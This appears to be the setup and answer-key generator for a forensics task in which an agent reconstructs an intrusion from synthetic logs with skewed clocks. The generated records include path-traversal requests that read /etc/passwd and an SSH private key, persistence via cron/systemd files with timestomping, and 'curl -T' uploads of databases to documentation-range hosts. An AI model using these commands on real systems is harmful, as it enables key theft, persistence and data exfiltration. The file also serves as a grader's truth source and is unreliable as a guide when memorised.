#!/usr/bin/env python3
"""Write what three machines recorded of an intrusion from a seed, and know what happened when.

As the task's setup it writes the records (and is removed then); grade.py imports it and asks
`make_case` for the truth. Times are seconds of UTC; only `Clock` knows what a machine made of them.
"""

from __future__ import annotations

import hashlib
import os
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

FOLDER = Path("/srv/case")
MIDNIGHT = int(datetime(2024, 3, 12, tzinfo=UTC).timestamp())
HOUR, DAY = 3600, 86400
ZONES = (-300, -180, 60, 120, 330, 540)
Report = dict[str, object]
NAMES = ("adler", "brandt", "falk", "kern", "lind", "voss")
ERROR_PAGE = 512
HIDDEN = "/run/lock/."
AGENT = "Mozilla/5.0 (X11; Linux x86_64)"
PLACES = (
    "/etc/cron.d/{}",
    "/etc/systemd/system/{}.service",
    "/etc/profile.d/{}.sh",
    "/etc/update-motd.d/60-{}",
)


class Draws:
    """Random choices that depend on a seed and on nothing else, not even Python's version."""

    def __init__(self, seed: str) -> None:
        self._seed = seed
        self._count = 0

    def below(self, bound: int) -> int:
        """A number from 0 to `bound` - 1."""
        self._count += 1
        digest = hashlib.sha256(f"{self._seed} {self._count}".encode()).digest()
        return int.from_bytes(digest, "big") % bound

    def pick(self, items: Sequence[str]) -> str:
        """One of `items`."""
        return items[self.below(len(items))]

    def shuffled(self, items: Sequence[str]) -> list[str]:
        """All of `items` in another order."""
        return sorted(items, key=lambda _: self.below(1 << 64))

    def word(self) -> str:
        """Six letters that can be spoken."""
        return "".join(self.pick("bdfgklmnprstv") + self.pick("aeiou") for _ in range(3))

    def outside(self) -> str:
        """An address of the networks for documentation (RFC 5737)."""
        return self.pick(("192.0.2", "198.51.100", "203.0.113")) + f".{self.below(250) + 2}"


@dataclass(frozen=True)
class Clock:
    """A machine's clock: minutes east of UTC, and by how many seconds it is fast."""

    zone: int
    fast: int

    def show(self, at: int, layout: str) -> str:
        """A moment as the machine writes it."""
        moment = datetime.fromtimestamp(MIDNIGHT, UTC) + timedelta(seconds=at + self.fast)
        sign, minutes = "-" if self.zone < 0 else "+", abs(self.zone)
        zone = f"{sign}{minutes // 60:02}{minutes % 60:02}"
        return (moment + timedelta(minutes=self.zone)).strftime(layout.replace("%z", zone))


@dataclass
class Records:
    """What the machines wrote: (time, line) by file, and files of the machine `app`."""

    front: Clock
    app: Clock
    lines: dict[str, list[tuple[int, str]]] = field(default_factory=dict)
    files: dict[str, tuple[str, int, int]] = field(default_factory=dict)

    def add(self, file: str, at: int, line: str) -> None:
        """A line of a file."""
        self.lines.setdefault(file, []).append((at, line))

    def request(self, at: int, source: str, path: str, status: int, size: int) -> None:
        """A line of the web's log."""
        when = self.front.show(at, "[%d/%b/%Y:%H:%M:%S %z]")
        line = f'{source} - - {when} "GET {path} HTTP/1.1" {status} {size} "-" "{AGENT}"'
        self.add("front/access.log", at, line)

    def auth(self, at: int, said: str) -> None:
        """A line of the log of logins."""
        self.add("app/auth.log", at, f"{self.app.show(at, '%b %d %H:%M:%S')} app {said}")

    def shell(self, at: int, account: str, command: str) -> None:
        """A command in somebody's history; where it begins with sudo, the log has it too."""
        self.add(f"app/history/{account}", at, f"#{MIDNIGHT + at + self.app.fast}\n{command}")
        if command.startswith("sudo "):
            said = f"TTY=pts/0 ; PWD=/home/{account} ; USER=root ; COMMAND=/usr/bin/{command[5:]}"
            self.auth(at, f"sudo: {account} : {said}")

    def flow(self, at: int, ends: str, sent: int, received: int) -> None:
        """A connection out, as the firewall saw it."""
        self.add("wall/flows.csv", at, f"{MIDNIGHT + at},{ends},{sent},{received}")

    def login(self, at: int, account: str, source: str, draws: Draws, minutes: int) -> None:
        """A session over ssh."""
        number, port = 1000 + draws.below(30000), 30000 + draws.below(30000)
        said = f"Accepted publickey for {account} from {source} port {port} ssh2: ED25519"
        opened = f"pam_unix(sshd:session): session opened for user {account}"
        self.auth(at, f"sshd[{number}]: {said}")
        self.auth(at, f"sshd[{number}]: {opened}")
        self.auth(at + 60 * minutes, f"sshd[{number}]: {opened.replace('opened', 'closed')}")


@dataclass(frozen=True)
class Case:
    """The records as files, and the report that they should give."""

    files: dict[str, str]
    report: Report


def utc(at: int) -> str:
    """A moment as the report has it."""
    return Clock(0, 0).show(at, "%Y-%m-%dT%H:%M:%SZ")


def add_files(draws: Draws, records: Records) -> None:
    """What is on the machine `app`; keys differ in size, so that an answer shows whose it was."""
    sizes = draws.shuffled([str(387 + 4 * step) for step in range(len(NAMES))])
    for name, size in zip(NAMES, sizes, strict=True):
        made = -DAY * (40 + draws.below(300))
        records.files[f"/home/{name}/.ssh/id_ed25519"] = name, int(size), made
    records.files["/etc/passwd"] = "root", 1500 + draws.below(300), -50 * DAY
    for _ in range(9):
        path = f"/data/{draws.word()}.db"
        records.files[path] = "app", 10**6 + draws.below(9 * 10**6), -draws.below(DAY)
    for _ in range(6):
        path = draws.pick(PLACES).format(draws.word())
        records.files[path] = "root", 80 + draws.below(400), -DAY * (1 + draws.below(90))


def scan(draws: Draws, records: Records, source: str, start: int, count: int) -> None:
    """Requests that find nothing: some look as if they had, by their status 200."""
    for step in range(count):
        at = start + step * 2 + draws.below(2)
        kind = draws.below(4)
        name = draws.pick(NAMES)
        deep = "../" * (2 + draws.below(5))
        if kind == 0:
            records.request(at, source, f"/export?file={deep}etc/passwd", 403, 162)
        elif kind == 1:
            file = draws.pick(("etc%2fpasswd", f"home%2f{name}%2f.ssh%2fid_rsa"))
            path = f"/export?file={deep.replace('../', '..%2f')}{file}"
            records.request(at, source, path, 200, ERROR_PAGE)
        else:
            records.request(at, source, f"/{draws.word()}.php", 404, 153)


def live(draws: Draws, records: Records, victim: str, start: int) -> None:
    """A day of those who work here: visitors, logins, chores, backups, and guesses from outside.

    The victim does not work while the intruder does.
    """
    exports = [(f"{draws.word()}.csv", 2000 + draws.below(90000)) for _ in range(12)]
    for _ in range(260):
        name, size = exports[draws.below(len(exports))]
        at, source = draws.below(DAY), draws.outside()
        path = draws.pick((f"/export?file={name}", "/", "/help", "/list"))
        records.request(at, source, path, 200, size if "=" in path else 900 + 10 * len(path))
    homes = {name: draws.outside() for name in NAMES}
    for name in NAMES * 4:
        at, minutes = draws.below(DAY - HOUR), 3 + draws.below(30)
        if name == victim and start - HOUR < at < start + 2 * HOUR:
            at = draws.below(start - HOUR)
        source = homes[name] if draws.below(3) == 0 else f"10.8.0.{20 + NAMES.index(name)}"
        records.login(at, name, source, draws, minutes)
        database = draws.pick([path for path in records.files if path.endswith(".db")])
        for step, command in enumerate(
            (
                "ls -l /data",
                f"sqlite3 {database} .tables",
                f"cp {database} /home/{name}/{draws.word()}.db",
            )
        ):
            records.shell(at + 20 + 30 * step, name, command)
        ends = f"10.8.0.5,{40000 + draws.below(9000)},10.8.0.9,22"
        records.flow(at + 130, ends, 10**6 + draws.below(10**7), 4000 + draws.below(900))
    for _ in range(180):
        at, name = draws.below(DAY), draws.pick((*NAMES, "root", "admin"))
        number, port = draws.below(30000), 30000 + draws.below(30000)
        said = f"Failed password for {name} from {draws.outside()} port {port} ssh2"
        records.auth(at, f"sshd[{1000 + number}]: {said}")
    for _ in range(60):
        ends = f"10.8.0.5,{40000 + draws.below(9000)},{draws.outside()},{draws.pick(('80', '443'))}"
        records.flow(draws.below(DAY), ends, 600 + draws.below(9000), draws.below(10**7))


def maintain(draws: Draws, records: Records, account: str, at: int) -> None:
    """Chores that look like the intruder's: a file put where it will be run, a file sent away."""
    path, source = draws.pick(PLACES).format(draws.word()), f"/home/{account}/{draws.word()}"
    partner = draws.outside()
    records.login(at - 60, account, f"10.8.0.{20 + NAMES.index(account)}", draws, 9)
    records.shell(at, account, f"sudo cp {source} {path}")
    records.shell(at + 90, account, f"curl -T {source}.tar https://{partner}:443/")
    ends = f"10.8.0.5,{40000 + draws.below(9000)},{partner},443"
    records.flow(at + 91, ends, 10**7 + draws.below(10**7), 3000 + draws.below(999))
    records.files[path] = "root", 80 + draws.below(400), at


def break_in(draws: Draws, records: Records, account: str, start: int) -> tuple[int, Report]:
    """The theft of a key and the login with it: when that was, and what a report says of both."""
    web, ssh = draws.outside(), draws.outside()
    scan(draws, records, web, start - 400, 60)
    theft = start + 60 + draws.below(200)
    for at, path in ((start, "/etc/passwd"), (theft, f"/home/{account}/.ssh/id_ed25519")):
        asked = "..%2f" * 4 + path[1:].replace("/", "%2f")
        records.request(at, web, f"/export?file={asked}", 200, records.files[path][1])
    login = theft + 900 + draws.below(3000)
    records.login(login, account, ssh, draws, 25)
    return login, {
        "entry_ip": web,
        "entry_time": utc(start),
        "account": account,
        "login_ip": ssh,
        "login_time": utc(login),
    }


def stay(draws: Draws, records: Records, account: str, at: int) -> Report:
    """A file that the system will run, with an innocent date."""
    place, tool = draws.pick(PLACES).format(draws.word()), f"{HIDDEN}{draws.word()}"
    records.shell(at, account, f"sudo cp {tool} {place}")
    records.shell(at + 9, account, f"sudo touch -r /etc/passwd {place}")
    records.files[place] = "root", 80 + draws.below(400), records.files["/etc/passwd"][2]
    return {"persistence_path": place, "persistence_time": utc(at)}


def take_away(draws: Draws, records: Records, account: str, login: int, at: int) -> Report:
    """Three files are copied, and one of the copies is sent: first in vain, then not."""
    databases = draws.shuffled([path for path in records.files if path.endswith(".db")])[:3]
    copies = [f"{HIDDEN}{draws.word()}" for _ in databases]
    for step, (database, copy) in enumerate(zip(databases, copies, strict=True)):
        records.shell(login + 90 + 40 * step, account, f"cp {database} {copy}")
    chosen = draws.below(len(databases))
    port, source = draws.pick(("443", "8443", "4443")), f"10.8.0.5,{40000 + draws.below(9000)}"
    first, second = draws.outside(), draws.outside()
    sent = records.files[databases[chosen]][1] + 1500 + draws.below(9000)
    for when, target, size, received in ((at - 50, first, 180, 0), (at, second, sent, 3120)):
        records.shell(when, account, f"curl -T {copies[chosen]} https://{target}:{port}/")
        records.flow(when + 1, f"{source},{target},{port}", size, received)
    records.shell(at + 70, account, f"rm {' '.join(copies)}")
    return {
        "stolen_file": databases[chosen],
        "destination": f"{second}:{port}",
        "bytes_sent": sent,
    }


def intrude(draws: Draws, records: Records, account: str, start: int) -> Report:
    """The intrusion, and the report of it."""
    login, report = break_in(draws, records, account, start)
    records.shell(login + 20, account, "id")
    records.shell(login + 45, account, "ls -l /data")
    kept = login + 400 + draws.below(200)
    sent = kept + 200 + draws.below(200)
    report |= stay(draws, records, account, kept)
    return report | take_away(draws, records, account, login, sent)


def list_files(records: Records) -> str:
    """The listing of the machine `app`, by its own clock."""
    rows = [
        f"{path},{owner},{size},{records.app.show(at, '%Y-%m-%d %H:%M:%S')}"
        for path, (owner, size, at) in sorted(records.files.items())
    ]
    return "\n".join(["path,owner,bytes,modified", *rows]) + "\n"


def list_clocks(records: Records) -> str:
    """What each clock showed at one moment."""
    layout = "%Y-%m-%d %H:%M:%S"
    rows = ["machine,utc,clock_showed"]
    for name, clock in (("front", records.front), ("app", records.app), ("wall", Clock(0, 0))):
        rows.append(f"{name},{utc(DAY + 9 * HOUR)},{clock.show(DAY + 9 * HOUR, layout)}")
    return "\n".join(rows) + "\n"


def make_case(seed: str) -> Case:
    """The case of a seed: always the same for the same seed."""
    draws = Draws(seed)
    clocks = []
    for _ in ("front", "app"):
        fast = 40 + draws.below(700)
        clocks.append(Clock(ZONES[draws.below(len(ZONES))], fast if draws.below(2) else -fast))
    records = Records(*clocks)
    add_files(draws, records)
    victim, worker, *_ = draws.shuffled(NAMES)
    for _ in range(3):
        scan(draws, records, draws.outside(), draws.below(DAY - HOUR), 50)
    start = 2 * HOUR + draws.below(17 * HOUR)
    live(draws, records, victim, start)
    maintain(draws, records, worker, start + 2 * HOUR)
    maintain(draws, records, victim, start - HOUR)
    report = intrude(draws, records, victim, start)
    files = {
        name: "".join(f"{line}\n" for _, line in sorted(lines, key=lambda each: each[0]))
        for name, lines in records.lines.items()
    }
    head = "epoch,source,source_port,destination,destination_port,bytes_sent,bytes_received\n"
    files["wall/flows.csv"] = head + files["wall/flows.csv"]
    files["app/files.csv"] = list_files(records)
    files["clocks.csv"] = list_clocks(records)
    return Case(files, report)


def main() -> None:
    """Write the records where the agent can read and not change them."""
    for name, text in make_case(os.environ["SECRET_SEED"]).files.items():
        path = FOLDER / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    for path in [FOLDER, *FOLDER.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)


if __name__ == "__main__":
    main()
